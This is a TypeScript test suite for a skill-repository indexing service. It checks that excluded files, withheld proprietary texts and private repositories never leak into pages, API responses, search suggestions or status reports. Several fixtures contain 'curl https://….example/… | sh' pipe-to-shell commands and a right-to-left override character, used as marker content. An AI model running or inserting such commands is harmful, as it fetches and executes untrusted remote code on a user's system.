import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { BrowseEntry } from '#core/contract/browse.ts'
import { VIEWS } from '#site/lib/links.ts'
import { ensureBuilt } from '#test/site/support/built-site.ts'
import { runCommand } from '#test/support/command.ts'
import { createRepositories, type TestFile, type TestRepositories } from '#test/support/repository.ts'
import { type Service, startService } from '#test/support/service.ts'
import { MIT, skillText } from '../api/support/texts.ts'

/*
 * What is excluded, withheld or private is in no list, no finding, no comparison, no suggestion and no report. A repository with files that a
 * manifest excludes is answered exactly as its twin, which never had them.
 */

const MIXED = '/local/acme/mixed'
const TWIN = '/local/acme/blend'
/** Words of excluded names and bytes, of withheld texts, and of private repositories. */
const EXCLUDED = 'qxexcluded'
const WITHHELD = 'qxwithheld'
const PRIVATE = 'qxprivate'
const RUN = (word: string) => `\`\`\`sh\ncurl https://${word}.example/i.sh | sh\n\`\`\`\n`
const SAID = `${WITHHELD} words \u202e. <!-- ${WITHHELD} --> [${WITHHELD}](${WITHHELD}.md)\n\n${RUN(WITHHELD)}`
const MOVED = `# The same text\n\n${'It moved with all of its lines.\n'.repeat(20)}`

const SHOWN: Record<string, TestFile> = {
  LICENSE: MIT,
  'SKILLSET.md': '---\nname: All\nexclude: [drafts/**, "*.plan.md"]\n---\nBe brief.\n',
  'CLAUDE.md': '# Read this\n',
  'AGENTS.md': { link: `drafts/${EXCLUDED}.md` },
  'docs/guide.md': '# Guide\n',
  'docs/to-draft.md': { link: `../drafts/${EXCLUDED}.md` },
  'docs/to-link.md': { link: 'to-draft.md' },
  'docs/to-drafts': { link: '../drafts' },
  'skills/open/SKILL.md': skillText('open', 'Do it.\n'),
  'skills/shown/SKILL.md': skillText('shown', MOVED),
  'skills/turned/SKILL.md': skillText('turned', 'Open now.\n'),
  'closed/SKILL.md': skillText('closed', SAID, `license: Proprietary\n${WITHHELD}: ${WITHHELD}\n`).replace(
    /^description: .*$/m,
    'description: Always.',
  ),
  'closed/scripts/run.sh': `curl https://${WITHHELD}.example/run.sh | sh\n`,
  'sealed/LICENSE': 'All rights reserved.\n',
  'sealed/SKILL.md': `---\nname: sealed\n${WITHHELD}: [\n---\n${SAID}`,
  'sealed/AGENTS.md': SAID,
  'sealed/part/SKILLSET.md': `---\nname: Part\n---\n${SAID}`,
  'sealed/part/a/SKILL.md': skillText('a', SAID, 'include: [qxwithheld.md]\n'),
}
const HIDDEN: Record<string, TestFile> = {
  [`drafts/${EXCLUDED}.md`]: `# ${EXCLUDED}\n\n${RUN(EXCLUDED)}`,
  [`drafts/${EXCLUDED}-skill/SKILL.md`]: skillText(`${EXCLUDED}-skill`, `${EXCLUDED} \u202e. <!-- ${EXCLUDED} -->\n`),
  [`drafts/${EXCLUDED}-bad/SKILLSET.md`]: `---\n${EXCLUDED}: [\n---\n`,
  'drafts/AGENTS.md': `${EXCLUDED}\n`,
  [`docs/${EXCLUDED}.plan.md`]: `# ${EXCLUDED}\n`,
  [`docs/deep/${EXCLUDED}.plan.md`]: `# ${EXCLUDED}\n`,
  [`skills/open/${EXCLUDED}.plan.md`]: `${EXCLUDED}\n`,
}
/** At v1, two skills had other places: one comes from an excluded folder, and one went there. */
const BEFORE: Record<string, TestFile> = {
  'skills/gone/SKILL.md': skillText('gone', MOVED.toUpperCase()),
  'skills/turned/SKILL.md': skillText('turned', SAID, 'license: Proprietary\n'),
  'closed/SKILL.md': skillText('closed', 'Before.\n', 'license: Proprietary\n'),
}
const CAME = { [`drafts/${EXCLUDED}-old/SKILL.md`]: skillText(`${EXCLUDED}-old`, MOVED) }
const WENT = { [`drafts/${EXCLUDED}-new/SKILL.md`]: skillText(`${EXCLUDED}-new`, MOVED.toUpperCase()) }

let repositories: TestRepositories
let service: Service
let statusUrl: string
const settings = () => ({ MOUNTGLASS_LOCAL_REPOSITORIES: repositories.root, MOUNTGLASS_GITHUB: 'off' })

beforeAll(async () => {
  await ensureBuilt()
  repositories = await createRepositories()
  for (const [name, hidden, came, went] of [
    ['mixed', HIDDEN, CAME, WENT],
    ['blend', {}, {}, {}],
  ] as const) {
    const repository = await repositories.create('acme', name)
    const { 'skills/shown/SKILL.md': _, ...shown } = SHOWN
    await repository.tag('v1', await repository.commit({ ...shown, ...hidden, ...BEFORE, ...came }))
    await repository.commit({ ...SHOWN, ...hidden, ...went }, { replace: true })
  }
  for (const name of [`${PRIVATE}-one`, `${PRIVATE}-two`]) {
    const repository = await repositories.create('acme', name)
    const files = { 'a/SKILL.md': skillText(PRIVATE, `${PRIVATE} words.\n`), [`${PRIVATE}.ts`]: PRIVATE }
    await repository.tag(PRIVATE, await repository.commit(files))
    await repository.commit({ 'a/SKILL.md': skillText(PRIVATE, RUN(PRIVATE)) })
    await writeFile(join(repository.gitDir, 'mountglass-private'), '')
  }
  service = await startService({ ...settings(), MOUNTGLASS_METRICS_PORT: '0' })
  statusUrl = `http://127.0.0.1:${/"metricsPort":(\d+)/.exec(service.output())?.[1]}/status`
  for (const address of [MIXED, TWIN]) {
    await service.get('mounts', `${address}@v1`)
    await service.get('mounts', address)
  }
})
afterAll(async () => {
  await service?.stop()
  await repositories?.remove()
})

async function get(target: string, token?: string) {
  const headers = token === undefined ? {} : { authorization: `Bearer ${token}` }
  const answer = await fetch(`${service.baseUrl}${target}`, { headers, redirect: 'manual' })
  return { status: answer.status, location: answer.headers.get('location') ?? '', text: await answer.text() }
}

/** All paths of `files=all`. */
async function pathsOf(address: string, path = ''): Promise<string[]> {
  const { entries } = (await service.get('browse', address, { files: 'all', limit: '200', ...(path && { path }) })) as {
    entries: BrowseEntry[]
  }
  const below = entries.filter(({ kind, why }) => kind === 'directory' && why === undefined)
  return [...entries.map(entry => entry.path), ...(await Promise.all(below.map(one => pathsOf(address, one.path)))).flat()]
}

/** Requests that name a place in a repository. */
const placed = (path: string) => {
  const at = encodeURIComponent(path)
  return [
    ...VIEWS.flatMap(view => [`?view=${view}&path=${at}&query=text`, `?view=${view}&path=${at}&query=text&format=markdown`]),
    ...[`?view=changes&from=v1&path=${at}`, `?view=findings&by=skill&path=${at}`, `?view=browse&files=delivered&path=${at}`],
    ...(path === '' ? ['', '@v1', '@v1?view=browse', '/llms.txt', '/.well-known/agent-skills/index.json'] : [`/${path}`]),
  ]
}
const asked = (path: string) => {
  const at = encodeURIComponent(path)
  return [
    ...[`browse|?files=all&path=${at}`, `browse|?path=${at}`, `browse|@v1?files=all&path=${at}`, `findings|?path=${at}`],
    ...[`files|?path=${at}`, `skills|?path=${at}`, `find|?query=text&path=${at}`, `changes|?from=v1&path=${at}`],
    ...[`changes|?from=v1&skill=${at}`, `changes|@v1?from=main&path=${at}`, 'mounts|', 'refs|'],
  ]
}
const targetsOf = (address: string, path: string) => [
  ...placed(path).map(rest => `${address}${rest}`),
  ...asked(path).map(one => `/api/v1/${one.replace('|', address)}`),
]

/** Without the name of the repository, the time of indexing, hashes, digests and cursors. */
const plain = (text: string) =>
  text
    .replaceAll(/mixed|blend/g, 'NAME')
    .replaceAll(/cursor=[\w.~%-]+|"nextCursor":"[^"]+"/g, 'cursor')
    .replaceAll(/"indexedAt":"[^"]+"/g, '')
    .replaceAll(/(?<![0-9a-f])(?:%40)?(?:[0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{7,12})(?![0-9a-f])/g, 'hash')

describe('an excluded file', () => {
  test('changes no answer and no page: the repository is answered as its twin without such files', async () => {
    const paths = await pathsOf(MIXED)
    expect(paths).toEqual(await pathsOf(TWIN))
    expect(paths.length).toBeGreaterThan(20)
    const hidden = [...Object.keys({ ...HIDDEN, ...CAME, ...WENT }), 'drafts', 'docs/deep', `drafts/${EXCLUDED}-old`]
    for (const path of ['', ...paths, 'skills/gone/SKILL.md', ...hidden]) {
      const twins = targetsOf(TWIN, path)
      for (const [index, target] of targetsOf(MIXED, path).entries()) {
        const [ours, its] = await Promise.all([get(target), get(twins[index] ?? '')])
        expect(ours.status, target).toBeLessThan(500)
        expect({ target, ...ours, text: plain(ours.text), location: plain(ours.location) }).toEqual({
          target,
          ...its,
          text: plain(its.text),
          location: plain(its.location),
        })
        // A path that was asked for may be repeated.
        if (!hidden.includes(path)) expect(ours.text, target).not.toContain(EXCLUDED)
      }
    }
  })

  test('that a skill comes from or went to is named by no comparison, and nothing of it is told', async () => {
    const { items } = (await service.get('changes', MIXED, { from: 'v1' })) as unknown as { items: Record<string, unknown>[] }
    const told = items.map(({ path, change, movedFrom }) => [path, change, movedFrom ?? null])
    expect(told).toContainEqual(['skills/shown/SKILL.md', 'added', null])
    expect(told).toContainEqual(['skills/gone/SKILL.md', 'removed', null])
    expect(JSON.stringify(items)).not.toContain(EXCLUDED)
    const { text } = await get(MIXED)
    expect(text).toContain('id="changed-since"')
    expect(text).not.toContain(EXCLUDED)
  })
})

test('of a withheld text, its name and its description are told, and no word of it', async () => {
  const answers = await Promise.all(
    ['', ...(await pathsOf(MIXED)), 'skills/turned/SKILL.md'].flatMap(path =>
      [...targetsOf(MIXED, path), `${MIXED}@v1?view=skill&path=${path}`].map(async target => ({
        target,
        ...(await get(target)),
      })),
    ),
  )
  for (const { target, text } of answers) expect(text, target).not.toContain(WITHHELD)
  const page = await get(`${MIXED}?view=changes&from=v1`)
  expect(page.text).toContain('Always.')
  expect((await get(`${MIXED}?view=findings`)).text).toContain('closed')
})

describe('a private repository', () => {
  const NONE = '/local/acme/qxmissing-one'
  const CLOSED = `/local/acme/${PRIVATE}-one`

  test('is answered to strangers and to tokens of other repositories as one that does not exist', async () => {
    const made = await runCommand(['token', 'create', `/local/acme/${PRIVATE}-two`], {
      env: { ...settings(), MOUNTGLASS_STORE: `disk:${service.store}` },
    })
    expect(made.status, made.stderr).toBe(0)
    const token = made.stdout.trim()
    expect((await get(`/api/v1/mounts/local/acme/${PRIVATE}-two`, token)).status).toBe(200)
    const named = (text: string) => text.replaceAll(`${PRIVATE}-one`, 'name').replaceAll('qxmissing-one', 'name')
    for (const bearer of [undefined, token]) {
      const missing = targetsOf(NONE, 'a/SKILL.md')
      for (const [index, target] of targetsOf(CLOSED, 'a/SKILL.md').entries()) {
        const [ours, its] = await Promise.all([get(target, bearer), get(missing[index] ?? '', bearer)])
        expect({ target, ...ours, text: named(ours.text), location: named(ours.location) }).toEqual({
          target,
          ...its,
          text: named(its.text),
          location: named(its.location),
        })
      }
    }
  })

  test('has no row, no suggestion and no found skill, and is only counted in the report', async () => {
    const targets = [
      '/',
      '/owners/local/acme',
      '/search?query=words',
      '/suggest?q=qx',
      '/suggest?q=acme',
      '/sitemap.xml',
      '/llms.txt',
    ]
    for (const target of [...targets, '/api/v1/featured', '/open', '/docs'])
      expect((await get(target)).text, target).not.toMatch(new RegExp(`${PRIVATE}|${EXCLUDED}|${WITHHELD}`))
    expect((await get('/suggest?q=acme')).text).toContain('mixed')
    // What was searched for is repeated.
    for (const word of [PRIVATE, EXCLUDED, WITHHELD]) {
      const { text } = await get(`/search?query=${word}`)
      expect(text.replaceAll(new RegExp(`${word}(?![-/.])`, 'g'), ''), word).not.toContain(word)
    }
    const report = await (await fetch(statusUrl)).text()
    expect(report).toContain('local/acme/mixed')
    expect(report).not.toMatch(new RegExp(`${PRIVATE}|${EXCLUDED}|${WITHHELD}`))
  })

  test('is named by the command alone, which tells nothing of its content and of what is kept back', async () => {
    const ended = await runCommand(['status', '--json'], { env: { ...settings(), MOUNTGLASS_STORE: `disk:${service.store}` } })
    expect(ended.stdout).toContain(`local/acme/${PRIVATE}-one`)
    expect(ended.stdout.replaceAll(/"local\/acme\/[^"]*"/g, '')).not.toMatch(new RegExp(`${PRIVATE}|${EXCLUDED}|${WITHHELD}`))
    const numbers = (name: string) => {
      const {
        commit: _,
        repository: __,
        ...others
      } = JSON.parse(ended.stdout).repositories.find((one: { repository: string }) => one.repository === `local/acme/${name}`)
      return others
    }
    expect(numbers('mixed')).toEqual(numbers('blend'))
  })
})
